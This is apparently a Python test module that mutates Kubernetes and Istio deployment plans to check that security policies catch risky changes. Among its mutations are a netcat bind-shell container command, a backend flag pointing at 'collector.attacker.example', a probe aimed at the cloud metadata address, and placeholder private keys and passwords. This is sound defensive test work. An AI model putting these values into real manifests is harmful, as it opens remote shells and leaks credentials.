"""A pod is more than what was declared, or holds what is somebody else's."""

from collections.abc import Callable
from typing import Any

from tests.policies.mutations.mutation import Family, Table
from tests.policies.mutations.plan import MARKER, Plan, manifest, namespace, pod_spec

TABLE = Table(Family.WORKLOADS)

KEY = "-----BEGIN PRIVATE KEY-----\nMIIBVQIBADANBgkqhkiG9w0BAQEFAASCAT8wggE7AgEAAkEA\n-----END PRIVATE KEY-----\n"
HELPER: dict[str, Any] = {
    "name": MARKER,
    "image": "images.example/helper:1",
    "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}, "runAsUser": 10001},
}


def _pod(plan: Plan) -> dict[str, Any]:
    workload = plan.app("Deployment")
    assert workload is not None
    return pod_spec(plan.edit(workload))


def _container(plan: Plan) -> dict[str, Any]:
    return _pod(plan)["containers"][0]


def _mounts(volume: dict[str, Any]) -> Callable[[Plan], bool]:
    def change(plan: Plan) -> bool:
        pod = _pod(plan)
        pod.setdefault("volumes", []).append({"name": MARKER, **volume})
        pod["containers"][0].setdefault("volumeMounts", []).append({"name": MARKER, "mountPath": f"/{MARKER}"})
        return True

    return change


def _projects(source: dict[str, Any]) -> Callable[[Plan], bool]:
    return _mounts({"projected": {"sources": [source]}})


def _sets(*path: str, value: Any) -> Callable[[Plan], bool]:
    """Return a change of a field of the pod of a service."""

    def change(plan: Plan) -> bool:
        place = _pod(plan)
        for step in path[:-1]:
            place = place[int(step)] if isinstance(place, list) else place.setdefault(step, {})
        place[path[-1]] = value
        return True

    return change


FIELDS: dict[str, tuple[str, str, Callable[[Plan], bool]]] = {
    "token-for-istiod": (
        "P07",
        "a pod asks for a token by which istiod signs",
        _projects({"serviceAccountToken": {"audience": "istio-ca", "path": "t"}}),
    ),
    "token-for-the-api-server": ("P07", "a pod projects a token for the API server", _projects({"serviceAccountToken": {"path": "t"}})),
    "trust-bundle": (
        "P07",
        "a pod takes its authorities from a ClusterTrustBundle",
        _projects({"clusterTrustBundle": {"name": "x", "path": "t"}}),
    ),
    "pod-certificate": ("P07", "a pod gets a certificate from the kubelet", _projects({"podCertificate": {"signerName": "x/y"}})),
    "certificate-driver": ("P07", "a driver hands a pod a certificate", _mounts({"csi": {"driver": "csi.cert-manager.io"}})),
    "image-volume": ("P07", "a pod mounts an image", _mounts({"image": {"reference": "images.example/files:1"}})),
    "claim": ("P07", "a pod mounts a claim that is not in the plan", _mounts({"persistentVolumeClaim": {"claimName": "x"}})),
    "secret-of-the-mesh": ("K13", "a service mounts the authority of the mesh", _mounts({"secret": {"secretName": "istio-ca-secret"}})),
    "secret-projected": ("K13", "a service mounts a key by another kind of volume", _projects({"secret": {"name": "gateway-client"}})),
    "probe-of-another-host": (
        "P07",
        "the kubelet is made to ask another host",
        _sets("containers", "0", "livenessProbe", value={"httpGet": {"host": "169.254.169.254", "port": 80}}),
    ),
    "hook-runs-a-command": (
        "P07",
        "a hook runs a command",
        _sets("containers", "0", "lifecycle", value={"postStart": {"exec": {"command": ["sh"]}}}),
    ),
    "runtime-class": ("P07", "a pod chooses another runtime", _sets("runtimeClassName", value="x")),
    "host-aliases": ("K11", "a pod has names of its own", _sets("hostAliases", value=[{"ip": "198.51.100.7", "hostnames": ["b"]}])),
    "dns-of-its-own": ("P07", "a pod asks a name server of its own", _sets("dnsConfig", value={"nameservers": ["198.51.100.7"]})),
    "shared-processes": ("P07", "the containers of a pod see each other's processes", _sets("shareProcessNamespace", value=True)),
    "device": ("P07", "a pod asks for devices", _sets("resourceClaims", value=[{"name": "x", "resourceClaimName": "x"}])),
    "named-node": ("P07", "a pod chooses its node", _sets("nodeName", value="x")),
}

for _id, (_rule, _description, _change) in FIELDS.items():
    _change.__name__ = _id
    TABLE.mutation(_rule, _description)(_change)


@TABLE.mutation("K13", "a second container stands beside a service")
def helper_container(plan: Plan) -> bool:
    _pod(plan)["containers"].append(HELPER)
    return True


@TABLE.mutation("K13", "a container runs before a service, and stays")
def helper_init_container(plan: Plan) -> bool:
    _pod(plan)["initContainers"] = [{**HELPER, "restartPolicy": "Always"}]
    return True


@TABLE.mutation("K13", "an ephemeral container is in the template of a service")
def helper_ephemeral_container(plan: Plan) -> bool:
    _pod(plan)["ephemeralContainers"] = [HELPER]
    return True


@TABLE.mutation("K13", "a service runs another image")
def another_image(plan: Plan) -> bool:
    _container(plan)["image"] = "images.example/other:1"
    return True


@TABLE.mutation("K13", "a service runs whatever is newest")
def newest_image(plan: Plan) -> bool:
    _container(plan)["image"] = "ghcr.io/stefanprodan/podinfo"
    return True


@TABLE.mutation("K13", "a service has a variable that nobody declared")
def another_variable(plan: Plan) -> bool:
    _container(plan).setdefault("env", []).append({"name": "BACKEND", "value": "http://elsewhere.example"})
    return True


@TABLE.mutation("K13", "a service reads a key of the gateway from its environment")
def secret_in_a_variable(plan: Plan) -> bool:
    source = {"secretKeyRef": {"name": "gateway-client", "key": "tls.key"}}
    _container(plan).setdefault("env", []).append({"name": "SETTING", "valueFrom": source})
    return True


@TABLE.mutation("K13", "a service reads every key of a Secret from its environment")
def secret_as_environment(plan: Plan) -> bool:
    _container(plan)["envFrom"] = [{"secretRef": {"name": "gateway-client"}}]
    return True


@TABLE.mutation("K13", "a workload of nobody lives among the services")
def workload_of_nobody(plan: Plan) -> bool:
    place = plan.app_namespaces()[0]
    plan.add(manifest("v1", "ServiceAccount", MARKER, place, automountServiceAccountToken=False))
    template = {"metadata": {"labels": {"app": MARKER}}, "spec": {"serviceAccountName": MARKER, "containers": [HELPER]}}
    plan.add(manifest("apps/v1", "Deployment", MARKER, place, spec={"selector": {"matchLabels": {"app": MARKER}}, "template": template}))
    return True


@TABLE.mutation("P07", "a service stays at the version before")
def rollout_paused(plan: Plan) -> bool:
    workload = plan.app("Deployment")
    assert workload is not None
    plan.edit(workload)["spec"]["paused"] = True
    return True


@TABLE.mutation("P07", "a policy goes when another object goes")
def guard_with_an_owner(plan: Plan) -> bool:
    policy = plan.callee_policy()
    assert policy is not None
    plan.edit(policy)["metadata"]["ownerReferences"] = [{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "1"}]
    return True


def _clear(kind: str, **fields: Any) -> Callable[[Plan], bool]:
    def change(plan: Plan) -> bool:
        plan.add(manifest("v1", kind, MARKER, plan.app_namespaces()[0], **fields))
        return True

    return change


CLEAR: dict[str, tuple[str, Callable[[Plan], bool]]] = {
    "key-in-a-config-map": ("a ConfigMap holds a private key", _clear("ConfigMap", data={"tls.key": KEY})),
    "key-behind-base64": (
        "a ConfigMap holds a private key as bytes",
        _clear("ConfigMap", binaryData={"k": "LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JSUI="}),
    ),
    "password-in-a-secret": ("a Secret stands in the plan in clear", _clear("Secret", data={"password": "aHVudGVyMg=="})),
    "text-in-a-secret": ("a Secret stands in the plan in clear, as text", _clear("Secret", stringData={"password": "hunter2"})),
}

for _id, (_description, _change) in CLEAR.items():
    _change.__name__ = _id
    TABLE.mutation("P08", _description)(_change)


@TABLE.mutation("P08", "a service is given a key as an argument")
def key_as_an_argument(plan: Plan) -> bool:
    _container(plan).setdefault("args", []).append(f"--key={KEY}")
    return True


@TABLE.mutation("P08", "a service is given a password in a variable")
def password_in_a_variable(plan: Plan) -> bool:
    _container(plan).setdefault("env", []).append({"name": "DB_PASSWORD", "value": "hunter2"})
    return True


@TABLE.mutation("P08", "a chart is given a private key among its values")
def key_in_a_chart(plan: Plan) -> bool:
    release = plan.release("istiod")
    assert release is not None
    plan.edit(release)["values"]["global"]["proxy"]["resources"] = {"x": KEY}
    return True


def _stand_in(plan: Plan) -> dict[str, Any] | None:
    """Return the container of a service for which the topology names no image."""
    apps = plan.app_namespaces()
    workload = plan.first("Deployment", where=lambda i: namespace(i) in apps and "stefanprodan/podinfo" in str(i["spec"]["template"]))
    return pod_spec(plan.edit(workload))["containers"][0] if workload else None


@TABLE.mutation("K13", "the stand-in of a service runs something else")
def command_of_a_stand_in(plan: Plan) -> bool:
    if (container := _stand_in(plan)) is None:
        return False
    container["command"] = ["sh", "-c", "nc -l -p 8080 -e sh"]
    return True


@TABLE.mutation("K13", "the stand-in of a service sends its requests on")
def stand_in_with_a_backend(plan: Plan) -> bool:
    if (container := _stand_in(plan)) is None:
        return False
    container["command"] = [*container["command"], "--backend-url=http://collector.attacker.example"]
    return True


@TABLE.mutation("P07", "a probe runs a command in a service's pod")
def probe_runs_a_command(plan: Plan) -> bool:
    _container(plan)["readinessProbe"] = {"exec": {"command": ["sh", "-c", "true"]}}
    return True


@TABLE.mutation("P07", "a probe shows a service a credential")
def probe_with_a_credential(plan: Plan) -> bool:
    headers = [{"name": "Authorization", "value": "Bearer stolen"}]
    _container(plan)["readinessProbe"] = {"httpGet": {"path": "/", "port": 8080, "httpHeaders": headers}}
    return True


@TABLE.mutation("P07", "a probe asks a service under a public host")
def probe_under_a_public_host(plan: Plan) -> bool:
    headers = [{"name": "Host", "value": "api.example.com"}]
    _container(plan)["readinessProbe"] = {"httpGet": {"path": "/", "port": 8080, "httpHeaders": headers}}
    return True


@TABLE.mutation("P04", "a service has no instances")
def no_instances(plan: Plan) -> bool:
    workload = plan.app("Deployment")
    assert workload is not None
    plan.edit(workload)["spec"]["replicas"] = 0
    return True


@TABLE.mutation("P07", "a Service is shown to whomever an annotation says")
def service_exported_by_annotation(plan: Plan) -> bool:
    service = plan.app("Service")
    assert service is not None
    plan.edit(service)["metadata"].setdefault("annotations", {})["networking.istio.io/exportTo"] = "*"
    return True


@TABLE.mutation("P04", "nobody is named who writes the logs of the proxies")
def log_without_provider(plan: Plan) -> bool:
    found = list(plan.records("Telemetry"))
    for each in found:
        plan.edit(each)["spec"]["accessLogging"] = [{}]
    return bool(found)


@TABLE.mutation("P04", "a log is written by a provider that the mesh does not have")
def log_by_an_unknown_provider(plan: Plan) -> bool:
    found = list(plan.records("Telemetry", where=lambda i: bool(i["spec"].get("selector"))))
    if not found:
        return False
    plan.edit(found[-1])["spec"]["accessLogging"][0]["providers"] = [{"name": MARKER}]
    return True


@TABLE.mutation("P04", "the log of an audited workload is for a label that no pod has")
def log_of_nobody(plan: Plan) -> bool:
    telemetry = plan.first("Telemetry", where=lambda i: bool(i["spec"].get("selector")))
    if telemetry is None:
        return False
    plan.edit(telemetry)["spec"]["selector"]["matchLabels"]["app"] = MARKER
    return True


@TABLE.mutation("P08", "a key is typed where the program's own stood, and what it depended on is kept")
def secret_typed_in_the_place_of_ours(plan: Plan) -> bool:
    for record in plan.records("Secret"):
        if (record.get("propertyDependencies") or {}).get("stringData"):
            inputs = plan.edit(record)
            inputs["stringData"] = dict.fromkeys(inputs["stringData"], "hush")
            return True
    return False
